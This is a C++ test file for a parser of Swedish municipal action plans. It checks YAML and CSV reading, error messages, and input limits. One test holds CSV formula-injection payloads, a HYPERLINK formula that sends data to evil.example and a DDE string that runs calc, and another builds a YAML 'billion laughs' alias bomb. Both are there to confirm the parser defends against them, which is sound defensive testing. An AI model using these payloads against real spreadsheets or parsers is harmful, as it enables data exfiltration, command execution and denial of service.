#include "content/plan_file.h"

#include <catch2/catch.hpp>

#include "content/plan_csv.h"

using namespace styrdok;

namespace {

const std::string kPath = "content/o/d/handlingsplaner/plan.yaml";

std::optional<ActionPlan> parse(const std::string& yaml, Diagnostics& d, std::optional<std::string> csv = {}) {
  PlanSource source{kPath, yaml, "plan", std::nullopt, std::nullopt};
  if (csv) {
    source.csv_path = "content/o/d/handlingsplaner/plan.csv";
    source.csv_text = csv;
  }
  return parse_plan(source, d);
}

std::string first_error(const std::string& yaml, std::optional<std::string> csv = {}) {
  Diagnostics d;
  CHECK_FALSE(parse(yaml, d, csv));
  REQUIRE_FALSE(d.items().empty());
  return d.items()[0].to_string();
}

const std::string kPlan =
    "title: Handlingsplan\n"
    "version: 2013-01-01\n"
    "responsible: Kommunstyrelsen\n"
    "rollup: weighted\n"
    "actions:\n"
    "  - id: \"1\"\n"
    "    title: Samla mottagandet\n"
    "    responsible: Socialnämnden\n"
    "    partners: [Arbetsförmedlingen, Skolan]\n"
    "    start: september 2013\n"
    "    deadline: innan januari 2014\n"
    "    status: in_progress\n"
    "    progress: 40\n"
    "    goals: [mottagande]\n"
    "    reports:\n"
    "      - date: 2013-10-01\n"
    "        status: in_progress\n"
    "        progress: 40\n"
    "        text: \"Utredning pågår; klar i höst, sa de \\\"snart\\\".\"\n"
    "        example: true\n"
    "    actions:\n"
    "      - id: \"1.1\"\n"
    "        title: Utred\n"
    "        deadline: 2013-11-30\n"
    "        completed: 2013-11-15\n"
    "        status: done\n"
    "        weight: 2\n"
    "      - id: \"1.2\"\n"
    "        title: Besluta\n"
    "        deadline: senast december 2013\n"
    "        description: |\n"
    "          Två rader,\n"
    "          med komma.\n";

}  // namespace

TEST_CASE("a plan file gives the plan, its actions, sub-actions and reports") {
  Diagnostics d;
  auto plan = parse(kPlan, d);
  INFO((d.items().empty() ? "" : d.items()[0].to_string()));
  REQUIRE(plan);
  CHECK(plan->id == "plan");
  CHECK(plan->version_id == "2013-01-01");
  CHECK(plan->rollup == Rollup::weighted);
  REQUIRE(plan->actions.size() == 1);
  const Action& a = plan->actions[0];
  CHECK(a.id == "1");
  CHECK(a.partners == std::vector<std::string>{"Arbetsförmedlingen", "Skolan"});
  CHECK(a.start->first_day == Date{2013, 9, 1});
  CHECK(a.deadline->last_day == Date{2013, 12, 31});
  CHECK(a.status == ActionStatus::in_progress);
  CHECK(a.progress == 40);
  CHECK(a.goals == std::vector<std::string>{"mottagande"});
  REQUIRE(a.reports.size() == 1);
  CHECK(a.reports[0].example);
  REQUIRE(a.actions.size() == 2);
  CHECK(a.actions[0].weight == 2);
  CHECK(a.actions[0].completed == Date{2013, 11, 15});
  CHECK(a.actions[1].description == "Två rader,\nmed komma.");
  CHECK(flatten(*plan).size() == 3);
  CHECK(flatten(*plan)[2].depth == 1);
}

TEST_CASE("an action's status may be written in Swedish, in YAML and in the CSV") {
  Diagnostics d;
  std::string yaml = kPlan;
  yaml.replace(yaml.find("    status: in_progress"), 23, "    status: Pågår");
  yaml.replace(yaml.find("        status: in_progress"), 27, "        status: pågående");
  auto plan = parse(yaml, d);
  INFO((d.items().empty() ? "" : d.items()[0].to_string()));
  REQUIRE(plan);
  CHECK(plan->actions[0].status == ActionStatus::in_progress);
  CHECK(plan->actions[0].reports[0].status == ActionStatus::in_progress);

  std::string csv = write_plan_csv(plan->actions);
  const auto at = csv.find(",in_progress,");
  REQUIRE(at != std::string::npos);
  csv.replace(at, 13, ",Uppskjuten,");
  auto csv_plan = parse("title: Handlingsplan\nversion: 2013-01-01\n", d, csv);
  INFO((d.items().empty() ? "" : d.items()[0].to_string()));
  REQUIRE(csv_plan);
  CHECK(csv_plan->actions[0].status == ActionStatus::postponed);
}

TEST_CASE("the CSV a plan is published as reads back to the same actions, reports and nesting") {
  Diagnostics d;
  auto plan = parse(kPlan, d);
  REQUIRE(plan);
  const std::string csv = write_plan_csv(plan->actions);
  auto back = read_plan_csv(csv, "plan.csv", d);
  INFO((d.items().empty() ? "" : d.items()[0].to_string()));
  REQUIRE(back);
  // Lossless: writing what was read gives the same bytes, and the values agree.
  CHECK(write_plan_csv(*back) == csv);
  const Action& a = (*back)[0];
  CHECK(a.deadline->as_written == "innan januari 2014");
  CHECK(a.reports[0].text == "Utredning pågår; klar i höst, sa de \"snart\".");
  CHECK(a.actions[1].description == "Två rader,\nmed komma.");
  CHECK(a.actions[0].weight == 2);
  CHECK(a.partners == plan->actions[0].partners);
}

TEST_CASE("formula payloads in a plan are neutralised in its CSV and read back unchanged") {
  Diagnostics d;
  std::string yaml = kPlan;
  const std::string hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klicka\")";
  const std::string calc = "@SUM(1+1)*cmd|' /C calc'!A0";
  yaml.replace(yaml.find("Samla mottagandet"), 17, "'" + hyperlink + "'");
  yaml.replace(yaml.find("Socialnämnden"), std::string("Socialnämnden").size(), "\"" + calc + "\"");
  auto plan = parse(yaml, d);
  INFO((d.items().empty() ? "" : d.items()[0].to_string()));
  REQUIRE(plan);
  REQUIRE(plan->actions[0].title == hyperlink);
  const std::string csv = write_plan_csv(plan->actions);
  CHECK(csv.find(",\"'=HYPERLINK(") != std::string::npos);
  CHECK(csv.find(",'@SUM(1+1)") != std::string::npos);
  CHECK(csv.find(",=") == std::string::npos);
  CHECK(csv.find(",@") == std::string::npos);
  auto back = read_plan_csv(csv, "plan.csv", d);
  REQUIRE(back);
  CHECK((*back)[0].title == hyperlink);
  CHECK((*back)[0].responsible == calc);
  CHECK(write_plan_csv(*back) == csv);
}

TEST_CASE("a plan may keep its actions in the CSV file beside it") {
  Diagnostics d;
  auto yaml_plan = parse(kPlan, d);
  REQUIRE(yaml_plan);
  const std::string header_only = "title: Handlingsplan\nversion: 2013-01-01\nrollup: weighted\n";
  auto csv_plan = parse(header_only, d, write_plan_csv(yaml_plan->actions));
  REQUIRE(csv_plan);
  CHECK(csv_plan->actions_path == "content/o/d/handlingsplaner/plan.csv");
  CHECK(write_plan_csv(csv_plan->actions) == write_plan_csv(yaml_plan->actions));
  CHECK(first_error(kPlan, write_plan_csv(yaml_plan->actions)) ==
        "content/o/d/handlingsplaner/plan.yaml:5:1: the actions are both here and in "
        "content/o/d/handlingsplaner/plan.csv; keep them in one place (remove 'actions:' or the CSV file)");
}

TEST_CASE("bad action fields are reported at their line and column") {
  const std::string head = "title: P\nversion: v\nactions:\n  - id: a\n    title: T\n";
  CHECK(first_error(head + "    start: 2014-03-01\n    deadline: innan januari 2014\n") ==
        kPath + ":7:15: the deadline 'innan januari 2014' (last day 2013-12-31) is before the start '2014-03-01'");
  CHECK(first_error(head + "    progress: 150\n") ==
        kPath + ":6:15: 'progress' is 150, but a percentage must be from 0 to 100");
  CHECK(first_error(head + "    weight: 1e308\n") ==
        kPath + ":6:13: 'weight' is '1e308', but must be a number above 0 and at most 1000000 (e.g. 1, 2 or 0.5)");
  CHECK(first_error(head + "    progress: mycket\n") ==
        kPath + ":6:15: 'progress' is 'mycket', but must be a whole number from 0 to 100");
  CHECK(first_error(head + "    status: in progress\n") ==
        kPath +
            ":6:13: 'status' is 'in progress', but must be one of: planned, in_progress, done, postponed, cancelled; "
            "did you mean 'in_progress'?");
  CHECK(first_error(head + "    status: pågåendet\n") ==
        kPath +
            ":6:13: 'status' is 'pågåendet', but must be one of: planned, in_progress, done, postponed, cancelled; "
            "did you mean 'pågående'?");
  CHECK(first_error(head + "    status: done\n") ==
        kPath + ":4:9: the action 'a' is done but says not when; add completed: YYYY-MM-DD (the day it was done)");
  CHECK(first_error(head + "    deadline: snarast\n") ==
        kPath +
            ":6:15: 'deadline' is 'snarast': write a day (2014-01-31, \"31 januari 2014\", \"senast den 31 januari "
            "2014\"), a month (2014-01, \"januari 2014\", \"innan januari 2014\", \"senast januari 2014\") or a year "
            "(2014)");
  CHECK(first_error(head + "    dedline: 2014\n") == kPath + ":6:5: unknown key 'dedline'; did you mean 'deadline'?");
  CHECK(first_error(head + "  - id: a\n    title: U\n") ==
        kPath + ":6:9: two actions have the id 'a' (the other is on line 4); ids must be unique within a plan");
  CHECK(first_error(head + "    reports:\n      - date: 2014-02-01\n        text: x\n      - date: 2014-01-01\n"
                           "        text: y\n") ==
        kPath + ":9:9: the report of 2014-01-01 comes after one of 2014-02-01; list an action's reports oldest first");
}

TEST_CASE("bad rows in a plan's CSV are reported at their line") {
  const std::string yaml = "title: P\nversion: v\n";
  const std::string header =
      "record,id,parent,title,description,responsible,partners,start,deadline,completed,"
      "status,progress,weight,goals,date,text,example\n";
  const std::string csv_path = "content/o/d/handlingsplaner/plan.csv";
  CHECK(first_error(yaml, header + "action,1,,T,,,,,2014,,planned,,1,,,\n") ==
        csv_path + ":2:1: this row has 16 columns, but the header has 17; check for a missing or extra ','");
  CHECK(first_error(yaml, header + "action,1,,T,,,,,2014,,planned,femtio,1,,,,\n") ==
        csv_path + ":2:31: 'progress' is 'femtio', but must be a whole number from 0 to 100");
  CHECK(first_error(yaml, header + "report,9,,,,,,,,,done,,,,2014-01-01,x,\n") ==
        csv_path + ":2:8: the report is for '9', which is not an action on a row above");
  CHECK(first_error(yaml, header + "åtgärd,1,,T,,,,,,,,,,,,,\n") ==
        csv_path + ":2:1: the record is 'åtgärd', but must be 'action' or 'report'");
  CHECK(first_error(yaml, "record,id\naction,1\n") ==
        csv_path + ":1:1: the header line must be exactly: " + header.substr(0, header.size() - 1));
}

// Bounded work (core/limits.h): a parent chain, many rows, aliases.

namespace {

const std::string kCsvHeader =
    "record,id,parent,title,description,responsible,partners,start,deadline,completed,"
    "status,progress,weight,goals,date,text,example\n";

// `rows` actions, each the parent of the next when `chain`, else side by side.
std::string plan_csv(int rows, bool chain) {
  std::string csv = kCsvHeader;
  for (int i = 0; i < rows; ++i) {
    const std::string parent = chain && i > 0 ? "a" + std::to_string(i - 1) : "";
    csv += "action,a" + std::to_string(i) + "," + parent + ",T,,,,,,,planned,,,,,,\n";
  }
  return csv;
}

}  // namespace

TEST_CASE("a 10,000-row parent chain in a plan's CSV is one error at the first row too deep") {
  Diagnostics d;
  CHECK_FALSE(read_plan_csv(plan_csv(10'000, true), "plan.csv", d));
  REQUIRE(d.items().size() == 1);
  CHECK(d.items()[0].to_string() ==
        "plan.csv:22:12: sub-actions are nested more than 20 levels deep here; styrdok reads no deeper nesting (make "
        "some of them actions of their own)");
}

TEST_CASE("sub-actions up to the depth limit are read, in order, from a CSV and from YAML") {
  Diagnostics d;
  auto actions = read_plan_csv(plan_csv(20, true), "plan.csv", d);
  REQUIRE(actions);
  const Action* a = &actions->front();
  for (int depth = 1; depth < 20; ++depth) {
    REQUIRE(a->actions.size() == 1);
    a = &a->actions.front();
  }
  CHECK(a->id == "a19");
  CHECK(a->actions.empty());

  std::string yaml = "title: P\nversion: v\nactions:\n";
  std::string indent = "  ";
  for (int i = 0; i < 3; ++i) {
    yaml += indent + "- id: \"" + std::to_string(i) + "\"\n" + indent + "  title: T\n" + indent + "  actions:\n";
    indent += "    ";
  }
  yaml += indent + "- id: last\n" + indent + "  title: T\n";
  const PlanSource source{kPath, yaml, "plan", std::nullopt, std::nullopt};
  InputLimits limits;
  limits.action_depth = 4;
  Diagnostics fine;
  CHECK(parse_plan(source, fine, limits));
  limits.action_depth = 3;
  Diagnostics deep;
  CHECK_FALSE(parse_plan(source, deep, limits));
  REQUIRE(deep.items().size() == 1);
  CHECK_THAT(deep.items()[0].to_string(), Catch::StartsWith(kPath + ":13:15: sub-actions are nested more than 3"));
}

TEST_CASE("a plan CSV's sub-actions keep their order when parents and children interleave") {
  Diagnostics d;
  auto actions = read_plan_csv(kCsvHeader +
                                   "action,1,,T,,,,,,,planned,,,,,,\n"
                                   "action,2,,T,,,,,,,planned,,,,,,\n"
                                   "action,1.1,1,T,,,,,,,planned,,,,,,\n"
                                   "action,2.1,2,T,,,,,,,planned,,,,,,\n"
                                   "action,1.2,1,T,,,,,,,planned,,,,,,\n"
                                   "action,1.1.1,1.1,T,,,,,,,planned,,,,,,\n",
                               "plan.csv", d);
  REQUIRE(actions);
  REQUIRE(actions->size() == 2);
  REQUIRE((*actions)[0].actions.size() == 2);
  CHECK((*actions)[0].actions[0].id == "1.1");
  CHECK((*actions)[0].actions[1].id == "1.2");
  REQUIRE((*actions)[0].actions[0].actions.size() == 1);
  CHECK((*actions)[0].actions[0].actions[0].id == "1.1.1");
  REQUIRE((*actions)[1].actions.size() == 1);
  CHECK((*actions)[1].actions[0].id == "2.1");
}

TEST_CASE("a plan CSV with more rows than the limit is refused at the first row past it") {
  InputLimits limits;
  limits.csv_rows = 100;
  Diagnostics d;
  CHECK_FALSE(read_plan_csv(plan_csv(101, false), "plan.csv", d, limits));
  REQUIRE(d.items().size() == 1);
  CHECK(d.items()[0].to_string() == "plan.csv:102:1: the file has more than 100 rows; styrdok reads no more");
  Diagnostics fine;
  CHECK(read_plan_csv(plan_csv(100, false), "plan.csv", fine, limits));
}

TEST_CASE("YAML aliases that expand past the limit are an error, not a billion laughs") {
  std::string yaml = "title: P\nversion: v\na: &a [x, x, x, x, x, x, x, x, x, x]\n";
  for (char c = 'b'; c <= 'i'; ++c) {
    const std::string prev = std::string(1, static_cast<char>(c - 1));
    yaml += std::string(1, c) + ": &" + std::string(1, c) + " [";
    for (int i = 0; i < 10; ++i) yaml += (i ? ", *" : "*") + prev;
    yaml += "]\n";
  }
  yaml += "actions:\n  - id: \"1\"\n    title: T\n    goals: *i\n";
  CHECK_THAT(
      first_error(yaml),
      Catch::Matches(kPath + ":\\d+:\\d+: the YAML holds more than 100000 values once its aliases \\('\\*name'\\) "
                             "are expanded; write the values out, or fewer of them"));
}
